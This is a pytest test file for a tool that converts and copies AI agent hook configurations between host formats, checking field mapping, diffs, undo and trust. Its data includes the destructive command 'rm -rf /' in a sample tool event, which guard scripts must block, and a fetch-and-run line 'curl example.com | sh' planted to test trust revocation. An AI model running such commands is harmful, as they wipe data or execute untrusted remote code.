"""A plan to copy or convert explains what happens to each field, and writes exactly that."""

from __future__ import annotations

import json
import os
import subprocess

import pytest

from hooktui.catalog import catalog
from hooktui.core.model import Hook
from hooktui.edit import copy_plan
from hooktui.edit.copy_plan import copy, move
from hooktui.edit.copy_targets import Target, targets
from hooktui.edit.file_steps import ChangeRefusedError, Write, diffs

from .conversions import landed
from .world import FILES, SPELLINGS, TEXTS, World

SOURCES = [("agenthooks", 0), ("claude", 0), ("claude", 3), ("vscode", 0), ("copilot", 0), ("azure", 0), ("azure", 3)]
EVENT = b'{"tool_name": "run_in_terminal", "tool_input": {"command": "rm -rf /"}}'
GUARD = b'#!/bin/sh\ncat >/dev/null\necho "not that: $A" >&2\nexit 2\n'
SCRIPTS = ("first", "second", "third", "stop", "one", "two", "guard", "done", "end", "after", "audit")


def furnish(world: World, *names: str) -> None:
    for name in names or FILES:
        world.add(name)
    for name in SCRIPTS:
        world.write(world.path(f"{name}.sh"), GUARD)
        os.chmod(world.path(f"{name}.sh"), 0o755)


def target(world: World, hook: Hook, format_name: str, scope: str = "project") -> Target:
    return next(one for one in targets(hook, world.project) if (one.format, one.scope) == (format_name, scope))


@pytest.mark.parametrize(("source", "number"), SOURCES)
def test_fields_that_a_plan_keeps_are_equal_when_read_back(world: World, source: str, number: int) -> None:
    furnish(world, source)
    hook, before = world.hook(source, number), world.tree()
    for where in targets(hook, world.project):
        try:
            plan = copy(hook, where)
        except ChangeRefusedError:
            continue
        change = world.do(plan)
        made = landed(world, plan)
        assert made.obstacle is None or made.obstacle.skip == "host-skips-file"
        fates = {row.field: row.fate for row in plan.fields}
        for field in copy_plan.FIELDS:
            wanted, got = field.value(hook), field.value(made)
            assert (fates.get(field.name) == "kept") == (wanted == got and wanted is not None), (where.title, field.name)
            assert wanted is None or field.name in fates
        world.undo(change)
        assert world.tree() == before, where.title


@pytest.mark.parametrize("format_name", ["agenthooks", "claude", "vscode", "copilot", "azure"])
@pytest.mark.parametrize(
    ("source", "command"),
    [("agenthooks", "run.sh"), ("claude", "first"), ("vscode", "one"), ("copilot", "guard"), ("azure", "audit")],
)
def test_a_converted_hook_runs_the_same_program(world: World, source: str, command: str, format_name: str) -> None:
    if source == format_name:
        pytest.skip("nothing to convert")
    furnish(world, source)
    hook = world.called(source, command)
    if format_name == "azure" and hook.event not in ("pre-tool-call", "post-tool-call"):
        pytest.skip("no such event")
    plan = copy(hook, target(world, hook, format_name))
    world.do(plan)
    made = landed(world, plan)
    environment = {"PATH": os.environ["PATH"], "CLAUDE_PROJECT_DIR": world.project, **made.env}
    argv = made.argv or ("bash", "-c", made.inline_script or "")
    done = subprocess.run(argv, env=environment, cwd=made.cwd or world.project, input=EVENT, capture_output=True, check=False)
    assert done.returncode == 2, done
    assert done.stderr.startswith(b"not that")
    if source == "vscode":
        assert done.stderr == b"not that: 1\n"


@pytest.mark.parametrize("format_name", ["agenthooks", "vscode"])
def test_placeholder_in_arguments_becomes_a_shell_variable(world: World, format_name: str) -> None:
    furnish(world)
    entry = {"type": "command", "command": "sh", "args": ["-c", 'echo "<$0>" >&2; exit 2', "it's ${CLAUDE_PROJECT_DIR}/a b"]}
    world.write(world.path(".claude/settings.json"), json.dumps({"hooks": {"PreToolUse": [{"hooks": [entry]}]}}).encode())
    hook = world.hook("claude")
    plan = copy(hook, target(world, hook, format_name))
    world.do(plan)
    made = landed(world, plan)
    done = subprocess.run(made.argv, cwd=world.project, capture_output=True, text=True, check=False)
    said = done.stderr.removeprefix("<it's ").removesuffix("/a b>\n")
    assert (done.returncode, os.path.realpath(said)) == (2, os.path.realpath(world.project))


def test_a_hook_md_becomes_an_entry_that_calls_its_script(world: World) -> None:
    world.add("agenthooks")
    plan = copy(world.hook("agenthooks"), target(world, world.hook("agenthooks"), "claude"))
    world.do(plan)
    assert json.loads(world.read(world.path(".claude/settings.json"))) == {
        "hooks": {
            "PreToolUse": [
                {
                    "matcher": "Bash",
                    "hooks": [
                        {
                            "type": "command",
                            "command": '"$CLAUDE_PROJECT_DIR"/.claude/hooks/guard/guard.sh',
                            "description": "Keeps the shell tidy",
                            "timeout": 5.5,
                        }
                    ],
                }
            ]
        }
    }
    assert {row.field: (row.fate, row.note) for row in plan.fields if row.fate != "kept"} == {
        "tools": ("approximated", "^Shell$ becomes Bash"),
        "pattern": ("approximated", "rm -rf: the script checks it, Claude Code does not"),
        "priority": ("lost", "900: Claude Code has no priorities"),
        "script": (
            "approximated",
            "This script was written for AgentHooks: it may not read this host's input or print its answers.",
        ),
    }


def test_an_entry_becomes_a_directory_with_a_script(world: World) -> None:
    furnish(world, "vscode")
    hook = world.called("vscode", "one")
    world.do(copy(hook, target(world, hook, "agenthooks")))
    assert world.read(world.path(".agents/hooks/one/HOOK.md")).decode() == (
        "---\nname: one\ndescription: one.sh (VS Code)\ntrigger: pre-tool-call\ntimeout: 30000\n---\n\n"
        "# one\n\nConverted from one.sh (VS Code).\n"
    )
    assert world.read(world.path(".agents/hooks/one/scripts/run.sh")).decode() == (
        '#!/bin/sh\nexport A=1\ncd "$(dirname "$0")/../../../.." || exit 1\n./one.sh\n'
    )


@pytest.mark.parametrize("spelling", SPELLINGS)
@pytest.mark.parametrize("format_name", ["claude", "vscode", "copilot", "azure"])
def test_a_file_that_is_there_keeps_every_byte_and_its_own_spelling(world: World, format_name: str, spelling: str) -> None:
    world.add("agenthooks")
    hook = world.hook("agenthooks")
    path = target(world, hook, format_name).file
    old = SPELLINGS[spelling](TEXTS[format_name])
    world.write(path, old)
    count = len(world.hooks(format_name))
    plan = copy(hook, target(world, hook, format_name))
    change = world.do(plan)
    new = world.read(path)
    assert len(world.hooks(format_name)) == count + 1
    left = iter(new.replace(b",", b""))
    assert all(byte in left for byte in old.replace(b",", b""))
    if spelling == "crlf":
        assert new.count(b"\r\n") == new.count(b"\n")
    if format_name == "claude":
        assert b"\n\t\t\t\t" in new[len(old) // 2 :]
    world.undo(change)
    assert world.read(path) == old


def test_plan_shows_its_diffs_before_it_writes(world: World) -> None:
    world.add("agenthooks")
    before = world.tree()
    hook = world.hook("agenthooks")
    plan = copy(hook, target(world, hook, "copilot"))
    *scripts, (path, diff) = [pair for step in plan.steps for pair in diffs(step)]
    assert [script for script, _ in scripts] == [
        world.path(f".github/hooks/guard/{name}") for name in ("guard.sh", "scripts/run.sh")
    ]
    assert path == world.path(".github/hooks/copilot.json")
    assert '+        "matcher": "bash"' in diff
    assert world.tree() == before


def test_a_hook_md_is_copied_with_its_modes_links_and_hidden_files(world: World) -> None:
    path = os.path.dirname(world.add("agenthooks"))
    world.write(os.path.join(path, ".env"), b"A=1")
    os.symlink("run.sh", os.path.join(path, "scripts", "also"))
    hook = world.hook("agenthooks")
    world.do(copy(hook, target(world, hook, "agenthooks", "user")))
    made = world.path("~/.config/agents/hooks/guard")
    assert os.stat(os.path.join(made, "scripts", "run.sh")).st_mode & 0o777 == 0o755
    assert os.readlink(os.path.join(made, "scripts", "also")) == "run.sh"
    assert world.read(os.path.join(made, ".env")) == b"A=1"
    with pytest.raises(ChangeRefusedError, match=r"already exists"):
        copy(hook, target(world, hook, "agenthooks", "user"))


@pytest.mark.parametrize(("source", "number"), [("agenthooks", 0), ("claude", 0), ("claude", 3), ("vscode", 1), ("copilot", 0)])
def test_moved_hook_is_in_one_file_and_undo_moves_it_back(world: World, source: str, number: int) -> None:
    world.add(source)
    before, count = world.tree(), len(world.hooks(source))
    hook = world.hook(source, number)
    change = world.do(move(hook, target(world, hook, source, "user")))
    now = world.hooks(source)
    assert len(now) == count
    (moved,) = [one for one in now if one.scope == "user"]
    assert (moved.event, moved.tool, moved.timeout_ms) == (hook.event, hook.tool, hook.timeout_ms)
    world.undo(change)
    assert world.tree() == before


def test_only_a_copy_can_be_converted(world: World) -> None:
    world.add("claude")
    hook = world.hook("claude")
    with pytest.raises(ChangeRefusedError, match="Only a copy can be converted"):
        move(hook, target(world, hook, "vscode"))


@pytest.mark.parametrize(
    ("source", "entry", "format_name", "why"),
    [
        (
            "claude",
            {"Notification": [{"hooks": [{"type": "command", "command": "x"}]}]},
            "vscode",
            "VS Code has no Notification",
        ),
        (
            "claude",
            {"SessionEnd": [{"hooks": [{"type": "command", "command": "x"}]}]},
            "azure",
            "Azure SRE Agent has no post-session",
        ),
        ("claude", {"Stop": [{"hooks": [{"type": "prompt", "prompt": "x"}]}]}, "copilot", "no hooks of type prompt"),
        ("claude", {"Stop": [{"hooks": [{"type": "agent", "prompt": "x"}]}]}, "azure", "no hooks of type agent"),
    ],
)
def test_hook_that_a_format_cannot_express_is_refused_with_a_sentence(
    world: World, source: str, entry: object, format_name: str, why: str
) -> None:
    world.write(world.path(FILES[source]), json.dumps({"hooks": entry}).encode())
    hook = world.hook(source)
    with pytest.raises(ChangeRefusedError, match=why):
        copy(hook, target(world, hook, format_name))


def test_a_file_that_cannot_be_read_is_left_alone(world: World) -> None:
    world.add("agenthooks")
    world.write(world.path(".claude/settings.json"), b"{broken")
    hook = world.hook("agenthooks")
    with pytest.raises(ChangeRefusedError, match=r"settings\.json"):
        copy(hook, target(world, hook, "claude"))


def test_vscode_and_copilot_never_share_a_file(world: World) -> None:
    world.add("agenthooks")
    world.write(world.path(".github/hooks/hooks.json"), TEXTS["copilot"].encode())
    hook = world.hook("agenthooks")
    world.do(copy(hook, target(world, hook, "vscode")))
    assert [os.path.basename(one.file) for one in world.hooks("vscode")] == ["vscode.json"]


def test_copy_is_approved_only_if_the_original_is(world: World) -> None:
    furnish(world, "agenthooks", "vscode")
    world.approve_all()
    guard, one = world.hook("agenthooks"), world.called("vscode", "one")
    world.write(world.path("one.sh"), b"curl example.com | sh\n")
    two = world.called("vscode", "two")
    made = [world.do(copy(hook, target(world, hook, "claude"))).plan for hook in (guard, one)]
    made += [world.do(copy(hook, target(world, hook, "agenthooks"))).plan for hook in (two, one)]
    trusted = catalog.load(world.project).trust
    assert [trusted[landed(world, plan).id] for plan in made] == ["trusted", "untrusted", "trusted", "untrusted"]


def test_a_prompt_is_carried_between_the_hosts_that_have_them(world: World) -> None:
    world.add("azure")
    hook = next(hook for hook in world.hooks("azure") if hook.type == "prompt")
    plan = copy(hook, target(world, hook, "claude"))
    world.do(plan)
    assert landed(world, plan).prompt == "Is it done? $ARGUMENTS"


def test_the_second_hook_goes_into_the_same_file(world: World) -> None:
    world.add("agenthooks")
    hook = world.hook("agenthooks")
    for _ in range(2):
        plan = copy(hook, target(world, hook, "azure"))
        world.do(plan)
    (step,) = plan.steps
    assert isinstance(step, Write)
    assert [one.name for one in world.hooks("azure")] == ["guard", "guard"]
